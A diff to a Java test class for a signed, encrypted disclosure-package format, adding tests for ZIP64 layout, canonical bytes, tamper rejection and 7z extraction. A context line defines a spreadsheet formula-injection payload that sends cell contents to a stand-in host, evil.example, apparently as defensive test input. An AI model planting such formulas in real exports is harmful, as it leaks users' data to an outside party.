@@ -1,15 +1,20 @@
 package org.custodian.disclosure;
 
+import java.io.ByteArrayInputStream;
+import java.io.File;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.InputStream;
 import java.io.OutputStream;
 import java.io.PrintStream;
+import java.nio.ByteBuffer;
+import java.nio.ByteOrder;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.security.KeyPair;
 import java.security.KeyPairGenerator;
+import java.security.PublicKey;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.ArrayList;
@@ -17,17 +22,23 @@ import java.util.Base64;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.Set;
 import java.util.concurrent.TimeUnit;
+import java.util.function.Predicate;
 import java.util.stream.Stream;
 
 import com.tngtech.archunit.core.importer.ClassFileImporter;
 import com.tngtech.archunit.core.importer.ImportOption;
 import net.lingala.zip4j.ZipFile;
 import net.lingala.zip4j.model.FileHeader;
+import org.custodian.disclosure.format.CanonicalZipWriter;
+import org.custodian.disclosure.format.EncodedEntry;
 import org.custodian.disclosure.format.PublicKeys;
 import org.custodian.disclosure.format.VerifyPackage;
+import org.custodian.disclosure.format.Zip64Packages;
 import org.custodian.shared.DataCategory;
+import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -41,6 +52,10 @@ import static org.assertj.core.api.Assertions.assertThat;
  * and an offline verifier that rejects a changed byte anywhere and writes nothing.
  */
 class PackageFormatTests {
+
+	static final String PASSPHRASE = "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ";
+
+	static final Instant PRODUCED_AT = Instant.parse("2026-11-24T10:15:31Z");
 
 	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
 
@@ -68,7 +83,7 @@ class PackageFormatTests {
 				List.of(new PackageBuilder.Target("USERNAME", "wire.fraudster", "acct-secret-1"),
 						new PackageBuilder.Target("EMAIL", "nobody@example.org", null),
 						new PackageBuilder.Target("USERNAME", "london.trader", "acct-secret-2")),
-				Instant.parse("2026-11-24T10:15:31Z"));
+				PRODUCED_AT);
 		SigningKeys.Signer signer = new SigningKeys.Signer(PublicKeys.keyId(this.pair.getPublic()),
 				this.pair.getPublic(), this.pair.getPrivate());
 		try (OutputStream out = Files.newOutputStream(this.zip)) {
@@ -131,18 +146,147 @@ class PackageFormatTests {
 		for (int i = 0; i < bytes.length; i += 257) {
 			positions.add(i);
 		}
+		assertEveryChangeRejected(bytes, positions,
+				(file) -> verify(file, this.publicKey).startsWith("1 Package REJECTED"));
+		Path longer = this.temp.resolve("longer.zip");
+		Files.write(longer, bytes);
+		Files.write(longer, new byte[] { 0 }, java.nio.file.StandardOpenOption.APPEND);
+		assertThat(verify(longer, this.publicKey)).startsWith("1 Package REJECTED");
+	}
+
+	@Test
+	void aPackageThatNeedsNoZip64IsLaidOutByteForByteAsBeforeZip64() throws Exception {
+		ByteArrayOutputStream out = new ByteArrayOutputStream();
+		CanonicalZipWriter writer = new CanonicalZipWriter(out, Instant.parse("2026-11-24T10:15:31Z"));
+		writer.add("targets/01/part-01.json", new EncodedEntry(8, "deflate", 40, 100, null),
+				new ByteArrayInputStream(new byte[40]));
+		writer.add("README.txt", new EncodedEntry(0, "stored", 30, 2, null), new ByteArrayInputStream(new byte[30]));
+		writer.finish();
+		// the SHA-256 of what the writer wrote before it knew ZIP64 (commit 4f41b2f)
+		assertThat(PackageBuilder.sha256(out.toByteArray()))
+			.isEqualTo("b640c4e5b6ce57b680bca30d472455c7fabb853ee0f4339fe709e94770f3e772");
+	}
+
+	@Test
+	void aZip64PackageVerifiesUnderItsRuleOpensWithAnIndependentReaderAndIsRefusedWhereZip64IsNotNeeded()
+			throws Exception {
+		Path forced = zip64("forced.zip", 0, 0);
+		assertThat(Zip64Packages.verify(forced, PASSPHRASE.toCharArray(), this::key, 0, 0))
+			.satisfies((verdict) -> assertThat(verdict.problems()).isEmpty())
+			.satisfies((verdict) -> assertThat(verdict.files()).isEqualTo(9));
+		byte[] bytes = Files.readAllBytes(forced);
+		assertThat(shortAt(bytes, 28)).as("first local header: ZIP64 field of 20 bytes, then the AES field")
+			.isEqualTo(20 + 11);
+		assertThat(intAt(bytes, bytes.length - 22 - 20 - 56)).as("ZIP64 end record").isEqualTo(0x06064b50);
+		assertThat(intAt(bytes, bytes.length - 22 - 20)).as("ZIP64 locator").isEqualTo(0x07064b50);
+		long half = Files.size(this.zip) / 2;
+		Path mixed = zip64("mixed.zip", half, 1000);
+		assertThat(Zip64Packages.verify(mixed, PASSPHRASE.toCharArray(), this::key, half, 1000).problems()).isEmpty();
+		byte[] mixedBytes = Files.readAllBytes(mixed);
+		assertThat(shortAt(mixedBytes, 28)).as("a small entry at a small offset has no ZIP64 field").isEqualTo(11);
+		assertThat(shortAt(mixedBytes, mixedBytes.length - 22 + 10)).as("entry count, not ZIP64").isEqualTo(12);
+		assertThat(intAt(mixedBytes, mixedBytes.length - 22 + 16) & 0xFFFFFFFFL).as("directory offset: ZIP64")
+			.isEqualTo(0xFFFFFFFFL);
+		for (Path file : List.of(forced, mixed)) {
+			assertThat(contents(file)).as(file.getFileName().toString()).isEqualTo(contents(this.zip));
+			assertThat(verify(file, this.publicKey)).as("ZIP64 where no value needs it is not canonical")
+				.startsWith("1 Package REJECTED");
+		}
+		assertThat(Zip64Packages.verify(this.zip, PASSPHRASE.toCharArray(), this::key, 0, 0).valid())
+			.as("and no ZIP64 where the rule wants it is not either")
+			.isFalse();
+	}
+
+	@Test
+	void sevenZipExtractsAZip64Package() throws Exception {
+		boolean available = new File("/usr/bin/7z").canExecute();
+		if (!"true".equals(System.getenv("CI"))) {
+			Assumptions.assumeTrue(available, "7z is not installed (apt-get install p7zip-full): skipped");
+		}
+		Map<String, String> expected = contents(this.zip);
+		for (Path file : List.of(zip64("forced.zip", 0, 0), zip64("mixed.zip", Files.size(this.zip) / 2, 1000))) {
+			Path out = this.temp.resolve("7z-" + file.getFileName());
+			Process sevenZip = new ProcessBuilder("7z", "x", "-p" + PASSPHRASE, "-o" + out, file.toString())
+				.redirectErrorStream(true)
+				.start();
+			String log = new String(sevenZip.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
+			assertThat(sevenZip.waitFor()).as(log).isZero();
+			assertThat(log).as(log).doesNotContainIgnoringCase("warning").doesNotContainIgnoringCase("error");
+			Map<String, String> extracted = new LinkedHashMap<>();
+			try (Stream<Path> files = Files.walk(out)) {
+				for (Path path : files.filter(Files::isRegularFile).toList()) {
+					extracted.put(out.relativize(path).toString().replace('\\', '/'),
+							PackageBuilder.sha256(Files.readAllBytes(path)));
+				}
+			}
+			assertThat(extracted).as(file.getFileName().toString()).hasSize(12).isEqualTo(expected);
+		}
+	}
+
+	@Test
+	void aChangedByteInTheZip64RecordsIsRejected() throws Exception {
+		Path forced = zip64("forced.zip", 0, 0);
+		byte[] bytes = Files.readAllBytes(forced);
+		int nameLength = shortAt(bytes, 26);
+		int directory = indexOf(bytes, new byte[] { 0x50, 0x4b, 0x01, 0x02 });
+		List<Integer> positions = new ArrayList<>();
+		for (int i = 0; i < 20; i++) {
+			// the first local header's ZIP64 field: tag, length, both sizes
+			positions.add(30 + nameLength + i);
+		}
+		for (int i = 0; i < 28; i++) {
+			// the first central record's: tag, length, sizes, offset
+			positions.add(directory + 46 + nameLength + i);
+		}
+		for (int i = bytes.length - 22 - 20 - 56; i < bytes.length; i++) {
+			// ZIP64 end record, locator, end record
+			positions.add(i);
+		}
+		assertEveryChangeRejected(bytes, positions,
+				(file) -> !Zip64Packages.verify(file, PASSPHRASE.toCharArray(), this::key, 0, 0).valid());
+	}
+
+	/** Each position's byte changed in turn, the package is rejected. */
+	private void assertEveryChangeRejected(byte[] bytes, List<Integer> positions, Predicate<Path> rejected)
+			throws IOException {
 		for (int position : positions) {
 			byte[] altered = bytes.clone();
 			altered[position] ^= 0x01;
 			Path file = this.temp.resolve("altered.zip");
 			Files.write(file, altered);
-			assertThat(verify(file, this.publicKey)).as("byte %d of %d changed", position, bytes.length)
-				.startsWith("1 Package REJECTED");
+			assertThat(rejected.test(file)).as("byte %d of %d changed", position, bytes.length).isTrue();
 		}
-		Path longer = this.temp.resolve("longer.zip");
-		Files.write(longer, bytes);
-		Files.write(longer, new byte[] { 0 }, java.nio.file.StandardOpenOption.APPEND);
-		assertThat(verify(longer, this.publicKey)).startsWith("1 Package REJECTED");
+	}
+
+	private Path zip64(String name, long bytes, long entries) throws Exception {
+		Path file = this.temp.resolve(name);
+		Zip64Packages.relayout(this.zip, file, PRODUCED_AT, bytes, entries);
+		return file;
+	}
+
+	private Optional<PublicKey> key(String id) {
+		return Optional.of(this.pair.getPublic()).filter((key) -> PublicKeys.keyId(key).equals(id));
+	}
+
+	/** Every entry's SHA-256, read by zip4j. */
+	private static Map<String, String> contents(Path file) throws IOException {
+		Map<String, String> contents = new LinkedHashMap<>();
+		try (ZipFile zip = new ZipFile(file.toFile(), PASSPHRASE.toCharArray())) {
+			for (FileHeader header : zip.getFileHeaders()) {
+				try (InputStream in = zip.getInputStream(header)) {
+					contents.put(header.getFileName(), PackageBuilder.sha256(in.readAllBytes()));
+				}
+			}
+		}
+		return contents;
+	}
+
+	private static int intAt(byte[] bytes, int position) {
+		return ByteBuffer.wrap(bytes, position, 4).order(ByteOrder.LITTLE_ENDIAN).getInt();
+	}
+
+	private static int shortAt(byte[] bytes, int position) {
+		return Short.toUnsignedInt(ByteBuffer.wrap(bytes, position, 2).order(ByteOrder.LITTLE_ENDIAN).getShort());
 	}
 
 	@Test
